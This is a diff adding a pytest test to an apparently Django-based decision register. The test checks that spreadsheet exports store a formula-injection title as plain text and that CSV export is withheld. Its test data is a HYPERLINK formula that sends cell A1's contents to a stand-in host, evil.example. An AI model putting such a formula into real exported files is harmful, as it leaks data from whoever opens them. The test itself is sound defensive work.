@@ -179,6 +179,22 @@ def test_export_is_a_real_xlsx_with_the_filtered_register(
     assert rows[1][0] == "2014:01" and "Tidplan 2014" in rows[1] and "B" in rows[1]
 
 
+def test_the_register_leaves_only_as_xlsx_where_no_title_runs_as_a_formula(
+    client, steering_member, make_decision
+):
+    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
+    make_decision(title)
+    client.force_login(steering_member)
+    listing = client.get(reverse("decision:index")).content.decode()
+    assert "export=xlsx" in listing and "export=csv" not in listing
+    response = client.get(reverse("decision:index"), {"export": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cell = next(cell for cell in sheet[2] if cell.value == title)
+    assert cell.data_type == "s"
+    csv = client.get(reverse("decision:index"), {"export": "csv"})
+    assert csv["Content-Type"].startswith("text/html")
+
+
 def test_decision_list_filters_by_kind_and_work_area(
     client, steering_member, make_decision, work_area
 ):
